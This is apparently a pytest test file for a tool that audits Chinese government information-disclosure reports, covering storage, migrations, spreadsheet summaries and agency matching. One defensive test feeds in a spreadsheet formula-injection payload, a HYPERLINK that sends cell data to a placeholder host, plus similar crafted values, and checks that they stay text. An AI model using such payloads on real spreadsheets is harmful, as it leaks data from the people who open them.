"""Store schema and migrations, summaries (byte-stable CSV and Excel, reviews shown), agency matching."""
from __future__ import annotations

import sqlite3

import pytest

from audit.batch import summaries
from audit.batch.agencies import AgencyMap, normalise, place_of
from audit.batch.inputs import discover
from audit.batch.store import MIGRATIONS, SCHEMA_VERSION, Store, StoreError, _statements


def _record(path: str, agency: str, year: int, total: float, findings: list[tuple[str, str]]) -> dict:
    return {
        "path": path,
        "source": {"sha256": "ab" * 32, "kind": "pdf", "size": 10, "encoding": None},
        "meta": {"agency": agency, "year": year, "format": "2021", "level": "department"},
        "page_count": 3,
        "sections": [{"number": 5, "title": "五", "text": "问题与改进"}],
        "fields": [{"field_id": "t3.new.total", "value": "12", "kind": "number", "raw": "12", "table": "t3",
                    "row_label": "一、本年新收", "column_label": "总计", "page": 2},
                   {"field_id": "t2.fee.amount", "value": "18228.47584", "kind": "number", "raw": "18228.47584",
                    "table": "t2"}],
        "findings": [{"rule_id": r, "severity": s, "kind": "numeric", "message": {"zh": f"{r}，数据不符", "en": r},
                      "location": {"table": "t3", "field_ids": ["t3.new.total"]}, "expected": 1, "found": 2,
                      "fingerprint": f"{r}-{path}"} for r, s in findings],
        "checks": [{"rule_id": "T3-ROW-SUM", "title": {"zh": "行", "en": "row"}, "outcome": "pass",
                    "severity": "error", "findings": 0}],
        "score": {"total": total, "grade": {"id": "good"}},
        "versions": {"tool": "0.1.0", "rules": "r1", "model": "m1"},
        "audited": "2025-06-01",
    }


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path)
    s.put_report(_record("a/乙局.pdf", "乙局", 2023, 82.5, [("T3-ROW-SUM", "error"), ("BLANKS", "warning")]),
                 audit_key="k", memos=["memos/a/乙局.pdf.md"])
    s.put_report(_record("a/甲局.pdf", "甲局", 2023, 95, []), audit_key="k", memos=[])
    s.put_report(_record("a/丙局.pdf", "丙局", 2023, 95, [("BLANKS", "warning")]), audit_key="k", memos=[])
    s.put_error("a/坏.pdf", sha256=None, audit_key="k", code="corrupt", reason="truncated PDF")
    yield s
    s.close()


def test_schema_version_and_newer_store_refused(tmp_path, store):
    assert store.db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    tables = {n for (n,) in store.db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert tables >= {"reports", "sections", "fields", "findings", "checks", "runs", "errors", "work", "reviews"}
    (tmp_path / "newer").mkdir()
    db = sqlite3.connect(tmp_path / "newer" / "audit.sqlite")
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    db.commit()
    db.close()
    with pytest.raises(StoreError, match="newer"):
        Store(tmp_path / "newer")


def test_values_kept_exact_and_reaudit_replaces_rows(store):
    assert store.query("SELECT value FROM fields WHERE field_id = 't2.fee.amount'")[0]["value"] == "18228.47584"
    store.put_report(_record("a/乙局.pdf", "乙局", 2023, 100, []), audit_key="k2", memos=[])
    assert store.query("SELECT count(*) AS n FROM findings")[0]["n"] == 1  # only 丙局's is left
    assert store.done()["a/乙局.pdf"] == ("ab" * 32, "k2")


def test_summaries_rank_count_and_are_byte_stable(tmp_path, store):
    out = tmp_path / "run"
    first = {p.name: p.read_bytes() for p in summaries.write(store, out)}
    again = {p.name: p.read_bytes() for p in summaries.write(store, out)}
    assert first == again
    ranking = first["ranking.csv"].decode("utf-8-sig").splitlines()
    assert ranking[0] == "rank,agency,year,reviewed_score,reviewed_grade,score,errors,warnings,dismissed,path"
    assert ranking[1:] == ["1,丙局,2023,95,good,95,0,1,0,a/丙局.pdf", "1,甲局,2023,95,good,95,0,0,0,a/甲局.pdf",
                           "3,乙局,2023,82.5,good,82.5,1,1,0,a/乙局.pdf"]
    reports = first["reports.csv"].decode("utf-8-sig").splitlines()
    assert reports[0].startswith("path,agency,agency_key,year,format")
    assert first["failures.csv"].decode("utf-8-sig").splitlines()[1] == "a/坏.pdf,corrupt,truncated PDF"
    from openpyxl import load_workbook

    wb = load_workbook(out / "summary" / "summary.xlsx")
    assert wb.sheetnames == ["reports", "findings", "ranking", "failures"]
    assert [c.value for c in wb["ranking"][4]] == [3, "乙局", 2023, 82.5, "good", 82.5, 1, 1, 0, "a/乙局.pdf"]


def test_reviews_survive_reaudit_and_show_in_summaries(tmp_path, store):
    fp = "T3-ROW-SUM-a/乙局.pdf"
    store.add_review("a/乙局.pdf", fp, "comment", "王审核", "看一下", at="2025-06-02T10:00:00")
    store.add_review("a/乙局.pdf", fp, "confirm", "王审核", at="2025-06-02T10:01:00")
    store.put_report(_record("a/乙局.pdf", "乙局", 2023, 82.5, [("T3-ROW-SUM", "error"), ("BLANKS", "warning")]),
                     audit_key="k3", memos=[])
    cur = store.query("SELECT decision, reviewer FROM current_reviews")
    assert [(r["decision"], r["reviewer"]) for r in cur] == [("confirm", "王审核")]
    data = summaries.tables(store)
    cols, rows = data["findings"]
    row = next(r for r in rows if r[cols.index("fingerprint")] == fp)
    assert row[cols.index("review")] == "confirm"
    cols, rows = data["reports"]
    row = next(r for r in rows if r[0] == "a/乙局.pdf")
    assert (row[cols.index("confirmed")], row[cols.index("dismissed")]) == (1, 0)


def test_summaries_show_dismissed_and_commented_findings_apart_and_rank_by_reviewed_score(store):
    store.add_review("a/乙局.pdf", "BLANKS-a/乙局.pdf", "dismiss", "王审核", "模板空格", at="2025-06-02T10:00:00")
    store.add_review("a/丙局.pdf", "BLANKS-a/丙局.pdf", "comment", "李复核", "待核实", at="2025-06-02T10:05:00")
    data = summaries.tables(store)
    cols, rows = data["reports"]
    got = {r[0]: dict(zip(cols, r)) for r in rows}
    yi, bing = got["a/乙局.pdf"], got["a/丙局.pdf"]
    assert (yi["errors"], yi["warnings"], yi["dismissed"], yi["open"]) == (1, 0, 1, 1)  # the dismissed one apart
    assert (yi["score"], yi["reviewed_score"], yi["reviewed_grade"]) == (82.5, 95.0, "excellent")  # scored again
    assert (bing["warnings"], bing["commented"], bing["open"], bing["reviewed_score"]) == (1, 1, 1, 95)
    cols, rows = data["findings"]
    row = next(r for r in rows if r[cols.index("fingerprint")] == "BLANKS-a/丙局.pdf")
    assert (row[cols.index("review")], row[cols.index("reviewer")], row[cols.index("comment")]) == (
        "comment", "李复核", "待核实")
    cols, rows = data["ranking"]
    assert [(r[cols.index("agency")], r[cols.index("reviewed_score")]) for r in rows] == [
        ("丙局", 95), ("乙局", 95.0), ("甲局", 95)]  # equal reviewed scores, by path
    assert [r[0] for r in rows] == [1, 1, 1]


def test_agency_names_normalised_and_mapped(tmp_path):
    assert normalise(" 平潭綜合實驗區管委會 ") == "平潭综合实验区管理委员会"
    assert normalise("青山区政府办") == normalise("青山区人民政府办公室") == "青山区人民政府办公室"
    assert normalise("2023年度青山区财政局政府信息公开工作年度报告") == "青山区财政局"
    assert normalise("（青山区）财政局") == "青山区财政局"
    assert place_of("青山区人民政府") == "青山区" and place_of("青山区财政局") is None
    csv = tmp_path / "map.csv"
    csv.write_text("name,agency,member_of\n青山区财金局,青山区财政局,青山区人民政府\n青山区教育局,,青山区政府\n",
                   encoding="utf-8")
    m = AgencyMap.load(csv)
    assert m.key("青山区财金局") == "青山区财政局" == m.key("青山区财政局")
    assert m.members["青山区人民政府"] == {"青山区财政局", "青山区教育局"}


def test_discovery_keys_are_stable_and_unique(tmp_path):
    for rel in ("x/reports/a.pdf", "x/reports/sub/a.html", "y/reports/b.txt", "x/reports/.hidden/c.pdf"):
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("x")
    found = discover([tmp_path / "x" / "reports", tmp_path / "y" / "reports"])
    assert [i.key for i in found.inputs] == ["reports/a.pdf", "reports/sub/a.html", "reports~2/b.txt"]


def test_a_crafted_agency_name_is_text_in_every_spreadsheet(tmp_path):
    """An agency name (and a reviewer's comment) that a spreadsheet would run as a formula stays text: in the
    summaries' CSV files and workbook after a real batch run, and in ``audit.export_excel`` (the evaluator
    notebook's export)."""
    import csv as _csv

    from openpyxl import load_workbook

    import audit
    from tests._batch_helpers import fixture_text, run_fixture_batch, write_fixtures

    name = '=HYPERLINK("http://example.invalid/?x="&A1,"青山区教育局")'
    src = write_fixtures(tmp_path / "in", {
        "a.txt": fixture_text(agency=name, year=2023, findings=["T3-ROW-SUM error"]),
        "b.txt": fixture_text(agency="-1+1青山区财政局", year=2023)})
    out = tmp_path / "out"
    run_fixture_batch([str(src)], str(out))
    with Store(out) as store:
        fp = store.query("SELECT fingerprint FROM findings")[0]["fingerprint"]
    audit.record_decision(out, fp, "comment", "王审核", "@SUM(A1:A9)", at="2025-06-02T10:00:00")
    audit.load_run(out).refresh()
    folder = out / "summary"
    for sheet in ("reports", "findings", "ranking"):
        with open(folder / f"{sheet}.csv", encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in _csv.reader(fh) for c in row]
        assert "'" + name in cells and name not in cells, sheet
        assert ("'-1+1青山区财政局" in cells) == (sheet != "findings")  # b.txt has no finding
    with open(folder / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        assert "'@SUM(A1:A9)" in [c for row in _csv.reader(fh) for c in row]
    wb = load_workbook(folder / "summary.xlsx")
    for sheet in ("reports", "findings", "ranking"):
        texts = [c for row in wb[sheet].iter_rows(min_row=2) for c in row if c.value in (name, "-1+1青山区财政局")]
        assert len(texts) == (1 if sheet == "findings" else 2) and all(c.data_type == "s" for c in texts), sheet
    path = audit.export_excel(tmp_path / "ranking.xlsx", {"reports": audit.load_run(out).reports.set_index("path")})
    ws = load_workbook(path)["reports"]
    assert [c.value for c in ws[1]][:2] == ["path", "agency"]  # the named index became a column
    agencies = [row[1] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in agencies] == [name, "-1+1青山区财政局"] and all(c.data_type == "s" for c in agencies)


def test_reasons_in_both_languages_round_trip_through_the_store(tmp_path):
    """A report whose tables cannot be read: the tables stage's reasons, variants and notes and every
    check's reason come back from the store in both languages, and its memos rendered from the store are
    the ones the audit gives."""
    import datetime as dt

    from _memo_helpers import unreadable_tables_report
    from audit import memo, pipeline
    from audit.batch.auditor import relabel, to_record
    from audit.batch.results import load_result

    result = relabel(pipeline.audit(unreadable_tables_report(tmp_path), today=dt.date(2024, 5, 6)), "a/unreadable.txt")
    assert set(result.fields.not_assessable) == {"t2", "t3"}
    with Store(tmp_path / "run") as store:
        store.put_report(to_record(result, "a/unreadable.txt"), audit_key="k", memos=[])
        back = load_result(store, "a/unreadable.txt")
        row = store.query("SELECT reason, reason_en FROM checks WHERE rule_id = 'T3-OLD-OTHER-ROW'")[0]
    assert back.fields.not_assessable == result.fields.not_assessable
    assert back.fields.notes == result.fields.notes and back.fields.variants == result.fields.variants
    assert [c.reason for c in back.checks] == [c.reason for c in result.checks]
    assert (row["reason"], row["reason_en"]) == ("仅适用于2021年版格式；本报告使用2019年版格式",
                                                 "for the 2021 format only; this report uses the 2019 format")
    for lang in ("zh", "en"):
        assert memo.render(back, "md", lang) == memo.render(result, "md", lang)


def test_a_schema_2_store_migrates_its_english_reasons(tmp_path):
    """Before schema 3 a check's reason was English only: migrated, it is the English reason too, and a
    stored table reason without its _en sibling reads the same in both languages."""
    import json

    from audit.batch.results import load_result
    from audit.model import Text

    db = sqlite3.connect(tmp_path / "audit.sqlite")
    for script in MIGRATIONS[:2]:
        for stmt in _statements(script):
            db.execute(stmt)
    db.execute("PRAGMA user_version = 2")
    tables = {"format": "2021", "not_assessable": {"t3": "table 三 not found in the text"}, "missing_rows": {},
              "variants": {}, "notes": ["table 二 read from running text (cells run together)"]}
    db.execute("INSERT INTO reports (id, path, sha256, audit_key, meta, tables) VALUES ('r1', 'a/x.txt', 'ab', 'k',"
               " '{}', ?)", (json.dumps(tables),))
    db.execute("INSERT INTO checks (report_id, scope, seq, rule_id, title_zh, title_en, outcome, severity, reason,"
               " findings) VALUES ('r1', 'report', 0, 'NARR-S6-FEE', '费', 'fee', 'not_applicable', 'warning',"
               " '2021 format only', 0), ('r1', 'report', 1, 'DEADLINE', '期限', 'deadline', 'pass', 'error', NULL, 0)")
    db.commit()
    db.close()
    with Store(tmp_path) as store:
        assert store.db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        rows = [tuple(r) for r in store.db.execute("SELECT rule_id, reason, reason_en FROM checks ORDER BY seq")]
        assert rows == [("NARR-S6-FEE", "2021 format only", "2021 format only"), ("DEADLINE", None, None)]
        back = load_result(store, "a/x.txt")
    assert [c.reason for c in back.checks] == [Text.same("2021 format only"), None]
    assert back.fields.not_assessable == {"t3": Text.same("table 三 not found in the text")}
    assert back.fields.notes == [Text.same("table 二 read from running text (cells run together)")]
